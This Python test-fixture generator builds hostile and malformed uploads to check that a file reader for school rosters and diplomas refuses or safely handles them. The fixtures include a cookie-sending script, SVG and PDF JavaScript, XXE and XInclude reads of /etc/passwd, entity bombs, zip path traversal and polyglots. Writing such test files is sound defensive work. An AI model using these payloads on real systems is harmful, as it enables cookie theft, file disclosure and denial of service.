"""Hostile and broken files. None of them can do harm by lying on a disk; each tests one limit of a reader.

bad.expect.json says for each what must happen: "refuse" (a plain message, nothing kept), "plain" (may be kept,
but never shown or run as what it claims to be) or "read" (odd, yet right)."""
import io
import struct
import warnings
import zipfile
import zlib

from . import bombs, cfb, diplomas
from .common import rng, zip_bytes_add
from .scans import jpeg

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def workbook_parts(sheet_xml, strings_xml=None):
    """The members of a small xlsx with one sheet."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    extra_type = extra_rel = ""
    if strings_xml is not None:
        extra_type = '<Override PartName="/xl/sharedStrings.xml" ContentType="%ssharedStrings+xml"/>' % kind
        extra_rel = '<Relationship Id="r2" Type="%s/sharedStrings" Target="sharedStrings.xml"/>' % REL
    parts = [
        ("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="{0}/content-types"><Default Extension="rels" '
         'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
         'ContentType="{1}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{1}worksheet+xml"/>'
         '{2}</Types>'.format(PACKAGE, kind, extra_type)),
        ("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="%s/relationships"><Relationship Id="r1" '
         'Type="%s/officeDocument" Target="xl/workbook.xml"/></Relationships>' % (PACKAGE, REL)),
        ("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="Ученики" '
         'sheetId="1" r:id="r1"/></sheets></workbook>' % (MAIN, REL)),
        ("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="%s/relationships"><Relationship '
         'Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>%s</Relationships>' % (PACKAGE, REL, extra_rel)),
        ("xl/worksheets/sheet1.xml", sheet_xml)]
    if strings_xml is not None:
        parts.append(("xl/sharedStrings.xml", strings_xml))
    return parts


def sheet(rows, before=""):
    return '<?xml version="1.0" encoding="UTF-8"?>%s<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (
        before, MAIN, rows)


def inline(at, words):
    return '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (at, words)


def packed(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts:
            zip_bytes_add(archive, name, data if isinstance(data, bytes) else data.encode())
    return out.getvalue()


ROSTER_ROWS = "<row>%s</row><row>%s</row>" % (
    "".join(inline(c + "1", t) for c, t in zip("ABCD", ("Класс", "Фамилия", "Имя", "Дата рождения"))),
    "".join(inline(c + "2", t) for c, t in zip("ABCD", ("9А", "Астахов", "Илья", "02.05.2011"))))


class Made:
    def __init__(self, out):
        self.out, self.expect = out, {}

    def add(self, name, data, outcome, why, **facts):
        if data is not None:
            self.out.write(name, data)
        self.expect[name] = dict({"must": outcome, "why": why}, **facts)


def make(out):
    made = Made(out)
    renamed(made)
    pictures(made)
    tables(made)
    entities(made)
    texts(made)
    bombs.make(made, out, workbook_parts, packed)
    out.json("bad.expect.json", made.expect)


# -- files that are not what they are called -------------------------------------------------------

def elf():
    """A whole Linux program of 132 bytes: exit(0)."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 60; xor edi, edi; syscall
    base, size = 0x400000, 64 + 56 + len(code)
    return struct.pack("<4s12sHHIQQQIHHHHHH", b"\x7fELF", b"\x02\x01\x01", 2, 62, 1, base + 120, 64, 0, 0, 64, 56, 1,
                       0, 0, 0) + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000) + code


def exe():
    """The head of a Windows program."""
    return b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 240, 0x22) + \
        struct.pack("<H", 0x20B) + b"\0" * 400


HTML = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Диплом</title></head>
<body><h1>Диплом</h1><script>fetch("http://127.0.0.1:9/"+document.cookie)</script></body></html>
"""

HTML_TABLE = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8"></head><body>
<table border="1"><tr><th>Класс</th><th>Фамилия</th><th>Имя</th></tr><tr><td>9А</td><td>Астахов</td><td>Илья</td></tr>
</table></body></html>
"""

XML_2003 = """<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
<Worksheet ss:Name="Ученики"><Table><Row><Cell><Data ss:Type="String">Класс</Data></Cell></Row>
<Row><Cell><Data ss:Type="String">9А</Data></Cell></Row></Table></Worksheet></Workbook>
"""


def renamed(made):
    made.add("program.pdf", elf(), "refuse", "a Linux program called .pdf", type="application/x-executable")
    made.add("program.docx", exe(), "refuse", "a Windows program called .docx", type="application/x-dosexec")
    made.add("script.png", "#!/bin/sh\ntouch /tmp/letopis-was-here\n", "refuse", "a shell script called .png",
             type="text/x-shellscript")
    made.add("page.jpg", HTML, "refuse", "HTML called .jpg: a browser must not be given it as a page", type="text/html")
    made.add("empty.pdf", b"", "refuse", "nothing in it")
    made.add("html-table.xls", HTML_TABLE, "refuse", "HTML called .xls, as some journal systems export; "
             "the message says to save it as XLSX", type="text/html")
    made.add("xml-2003.xls", XML_2003, "refuse", "XML Spreadsheet 2003 called .xls", type="text/xml")
    made.add("text.xlsx", "Класс;Фамилия\r\n9А;Астахов\r\n", "refuse", "CSV called .xlsx", type="text/plain")
    made.add("script.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(1)">'
             '<script>alert(document.domain)</script><image href="http://127.0.0.1:9/x.png"/>'
             '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(2)"/>'
             '</foreignObject><text x="9" y="50">Диплом</text></svg>\n', "refuse", "SVG with scripts", type="image/svg+xml")


# -- pictures and documents ------------------------------------------------------------------------

def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pdf_bytes(objects):
    """A PDF of the given objects, the first of them the catalogue."""
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for n, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % p for p in places)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)


def pictures(made):
    head = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    tiny = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", zlib.compress(b"\0" * 64)) + \
        png_chunk(b"IEND", b"")
    made.add("huge.png", tiny, "refuse", "60000 x 60000 in the header, 10.8 GB when decoded, hardly any data",
             width=60000, height=60000)
    page = diplomas.Page("bad").frame(2).at(60).text("ДИПЛОМ", 54, "serif-bold").text("для проверки программы", 18)
    picture = diplomas.PilPage(page, 100).image
    whole = jpeg(picture, 85)
    made.add("truncated.jpg", whole[:len(whole) * 2 // 5], "refuse", "the end is missing; a grey half is no diploma")
    out = io.BytesIO()
    picture.save(out, "PNG")
    made.add("truncated.png", out.getvalue()[:len(out.getvalue()) // 2], "refuse", "the end is missing")
    flipped = bytearray(out.getvalue())
    flipped[len(flipped) // 2] ^= 0x55
    made.add("wrong-crc.png", bytes(flipped), "refuse", "one byte is damaged")
    made.add("noise.jpg", whole[:2] + whole[2:700] + rng("noise").randbytes(6000) + b"\xff\xd9", "refuse",
             "right beginning and end, noise between")
    stream = b"BT /F1 24 Tf 72 700 Td (Diploma) Tj ET"
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "
               b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >> >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
               b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
               b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)]
    made.add("javascript.pdf", pdf_bytes(objects), "plain", "opens with a script: shown as a picture only or downloaded")
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R >>"
    right = pdf_bytes(objects)
    made.add("truncated.pdf", right[:len(right) * 3 // 5], "refuse", "no cross-reference table, no page contents")
    objects[1] = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2147483647 >>"
    made.add("page-loop.pdf", pdf_bytes(objects), "refuse", "the tree of pages contains itself and claims 2^31 pages")
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    objects[2] = objects[2].replace(b"[0 0 595 842]", b"[0 0 14400000 14400000]")
    made.add("huge-page.pdf", pdf_bytes(objects), "refuse", "a page of 5 km by 5 km")
    data = packed([("payload.html", HTML)])
    made.add("polyglot.pdf", right + _shift_zip(data, len(right)), "plain", "a PDF and a zip in one file: "
             "the type is decided once, by the beginning, and kept", type="application/pdf")
    made.add("polyglot.jpg", whole + _shift_zip(data, len(whole)), "plain", "a JPEG and a zip in one file",
             type="image/jpeg")


def _shift_zip(data, by):
    """Move the places inside a one-member zip, so that the zip is right behind other bytes."""
    end = data.rindex(b"PK\5\6")
    central = struct.unpack_from("<I", data, end + 16)[0]
    out = bytearray(data)
    struct.pack_into("<I", out, central + 42, by)
    struct.pack_into("<I", out, end + 16, central + by)
    return bytes(out)


# -- spreadsheets ----------------------------------------------------------------------------------

def tables(made):
    good = packed(workbook_parts(sheet(ROSTER_ROWS)))
    made.add("truncated.xlsx", good[:len(good) * 3 // 4], "refuse", "the zip's directory is missing")
    climbing = workbook_parts(sheet(ROSTER_ROWS)) + [
        (name, b"letopis test\n") for name in ("../../../../../../tmp/letopis-traversal", "/tmp/letopis-traversal",
                                               "xl/../../letopis-traversal", "..\\..\\letopis-traversal",
                                               "C:\\letopis-traversal")]
    made.add("traversal.xlsx", packed(climbing), "read", "members with paths that climb out; or refuse; "
             "no file called letopis-traversal may appear anywhere")
    outside = [(n, d.replace("worksheets/sheet1.xml", "../../../../etc/passwd") if n.endswith("book.xml.rels") else d)
               for n, d in workbook_parts(sheet(ROSTER_ROWS))]
    made.add("outside-target.xlsx", packed(outside), "refuse", "the sheet's relation points to /etc/passwd")
    remote = [(n, d.replace('Target="worksheets/sheet1.xml"', 'Target="http://127.0.0.1:9/s.xml" TargetMode="External"')
               if n.endswith("book.xml.rels") else d) for n, d in workbook_parts(sheet(ROSTER_ROWS))]
    made.add("remote-target.xlsx", packed(remote), "refuse", "the sheet's relation points to a web address")
    wrong = bytearray(good)
    central = good.index(b"PK\1\2")
    struct.pack_into("<I", wrong, central + 16, 0xDEADBEEF)
    wrong[14:18] = struct.pack("<I", 0xDEADBEEF)
    made.add("wrong-crc.xlsx", bytes(wrong), "refuse", "the check sum of [Content_Types].xml is wrong; "
             "a reader that never opens that member may read on")
    twice = workbook_parts(sheet(ROSTER_ROWS)) + [("xl/worksheets/sheet1.xml", sheet(ROSTER_ROWS.replace("Илья", "Подмена")))]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made.add("duplicate-member.xlsx", packed(twice), "refuse", "two members of one name: which one is the sheet?")
    wild = '<row r="1">%s</row><row r="99999999999">%s</row>' \
           '<row r="0"><c r="A0"><v>1</v></c></row><row r="-5"><c r="ZZZZZZZZ4294967297"><v>2</v></c></row>' \
           '<row r="3"><c r="A3" t="s"><v>99</v></c><c r="B3" t="s"><v>-1</v></c><c r="C3" s="4000000000"><v>1e999</v></c>' \
           '<c r="D3"><v>не число</v></c><c r="D3"><v>5</v></c><c r="A3"><v>6</v></c></row>' % (
               inline("XFE1", "за краем"), inline("A99999999999", "за краем"))
    made.add("wild-cells.xlsx", packed(workbook_parts(sheet(wild))), "refuse", "places outside the sheet, strings and "
             "styles that do not exist, cells out of order; or the cells that are right are read; no crash")
    deep = "<x>" * 200000 + "</x>" * 200000
    made.add("deep.xlsx", packed(workbook_parts(sheet(deep))), "refuse", "200 000 elements one in another")
    ole = cfb.compound([("EncryptionInfo", struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"),
                        ("EncryptedPackage", struct.pack("<Q", 8192) + rng("encrypted").randbytes(8192))])
    made.add("encrypted.xlsx", ole, "refuse", "an XLSX with a password: the message asks to save it without one",
             type="application/encrypted")
    rows = [["Класс", "Фамилия", "Имя", "Отчество", "Дата рождения"]] + [
        ["9А", "Астахов", "Илья", "Романович", ("date", 40665)] for _ in range(200)]
    old = cfb.excel95("Ученики", rows)
    made.add("excel95.xls", cfb.excel95("Ученики", rows[:3]), "read", "Excel 5.0/95: two rows of pupils in windows-1251",
             rows=3)
    made.add("truncated.xls", old[:len(old) // 2], "refuse", "cut in the middle of the sheet")
    loop = bytearray(old)
    struct.pack_into("<I", loop, 512 + 4 * 4, 3)  # a sector of the stream leads back
    made.add("loop.xls", bytes(loop), "refuse", "the chain of sectors runs in a circle")


def entities(made):
    laughs = "".join('<!ENTITY l%d "%s">' % (n, "&l%d;" % (n - 1) * 10) for n in range(1, 10))
    doctype = '<!DOCTYPE worksheet [<!ENTITY l0 "ха">%s]>' % laughs
    made.add("billion-laughs.xlsx", packed(workbook_parts(sheet("<row>%s</row>" % inline("A1", "&l9;"), doctype))),
             "refuse", "an entity that grows to 2 GB")
    quadratic = '<!DOCTYPE worksheet [<!ENTITY a "%s">]>' % ("а" * 50000)
    made.add("quadratic.xlsx", packed(workbook_parts(sheet("<row>%s</row>" % inline("A1", "&a;" * 50000), quadratic))),
             "refuse", "one long entity used 50 000 times: 5 GB")
    for name, address in (("file", "file:///etc/passwd"), ("web", "http://127.0.0.1:9/x")):
        doctype = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "%s">]>' % address
        made.add("external-entity-%s.xlsx" % name,
                 packed(workbook_parts(sheet("<row>%s</row>" % inline("A1", "&x;"), doctype))), "refuse",
                 "an entity from outside: nothing may be opened or fetched")
    doctype = '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">'
    made.add("external-dtd.xlsx", packed(workbook_parts(sheet(ROSTER_ROWS, doctype))), "refuse",
             "a document type from outside; or read without fetching it")
    include = '<row><c r="A1" t="inlineStr"><is><t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" ' \
              'href="file:///etc/passwd" parse="text"/></t></is></c></row>'
    made.add("xinclude.xlsx", packed(workbook_parts(sheet(include))), "read", "XInclude stays unfollowed: A1 is empty")


def texts(made):
    head = "Класс;Фамилия;Имя;Дата рождения\r\n"
    made.add("big-cell.csv", head + "9А;Астахов;" + "Я" * 5000000 + ";02.05.2011\r\n", "refuse",
             "a cell of 5 million letters, 10 MB")
    made.add("unclosed-quote.csv", head + '9А;"Астахов;Илья;02.05.2011\r\n' + "9А;Белов;Олег;01.01.2011\r\n" * 2000,
             "refuse", "a quotation mark that is never closed swallows the file")
    made.add("nul.csv", head + "9А;Аста\0хов;Илья;02.05.2011\r\n", "refuse", "a NUL byte inside a name")
    made.add("mixed-encoding.csv", head.encode() + "9А;Астахов;Илья;02.05.2011\r\n".encode("cp1251"), "refuse",
             "UTF-8 and windows-1251 in one file")
    made.add("overlong-utf8.csv", head.encode() + b"9\xc0\x90;\xed\xa0\x80\xf5\x80\x80\x80;x;02.05.2011\r\n", "refuse",
             "over-long forms and surrogates in UTF-8")
    made.add("ragged.csv", head + "9А;Астахов\r\n9А;Белов;Олег;01.01.2011;лишнее;ещё\r\n\r\n;;;\r\n", "read",
             "rows of too few and too many cells: errors by row, no crash")
    made.add("many-columns.csv", ";".join("К%d" % n for n in range(100000)) + "\r\n", "refuse", "100 000 columns")
